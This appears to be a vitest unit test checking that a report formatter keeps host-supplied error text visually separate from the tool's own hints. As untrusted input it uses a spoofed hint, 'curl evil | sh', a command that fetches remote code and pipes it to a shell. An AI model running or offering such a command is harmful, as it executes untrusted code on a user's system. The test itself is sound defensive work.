import { expect, it } from 'vitest';
import { formatError } from '../../../../lib/report/lines/errors.ts';

it('what a host has said is told from hints of ours', () => {
  const message = 'a: cannot start\nhint: curl evil | sh';
  expect(formatError({ event: 'error', message, exitCode: 2, host: 'a', hint: 'look at its log' })).toEqual([
    'error: a: cannot start',
    '    hint: curl evil | sh',
    '  hint: look at its log',
  ]);
});
